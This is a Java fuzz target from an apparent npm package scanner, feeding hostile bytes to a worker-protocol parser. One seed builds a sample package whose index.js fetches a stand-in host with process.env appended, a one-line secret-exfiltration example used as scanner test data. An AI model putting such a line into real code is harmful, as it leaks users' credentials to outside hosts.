package dev.assay.scanners.worker;

import dev.assay.scanners.fuzz.FuzzTarget;
import dev.assay.scanners.profile.Packages;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;

/** What a worker answers, which has parsed hostile bytes. */
public final class WorkerProtocolFuzz implements FuzzTarget {

    @Override
    public void read(byte[] bytes) {
        try {
            var stream = new DataInputStream(new ByteArrayInputStream(bytes));
            WorkerProtocol.readOutcome(stream, 1 << 20);
        } catch (IOException e) {
            // A refusal with a name, of which the caller makes an outcome.
        }
    }

    @Override
    public List<byte[]> seeds() {
        return List.of(
                answer(new ScanOutcome.NotScanned(ScanOutcome.Reason.CRASHED, "it crashed")),
                answer(
                        new ScanOutcome.Scanned(
                                Packages.npm("a", "1.0.0")
                                        .manifest("{\"name\":\"a\",\"dependencies\":{\"b\":\"1\"}}")
                                        .file("index.js", "fetch('https://a.zz/' + process.env.A)")
                                        .profile())));
    }

    private static byte[] answer(ScanOutcome outcome) {
        var bytes = new ByteArrayOutputStream();
        try {
            WorkerProtocol.writeOutcome(new DataOutputStream(bytes), outcome);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
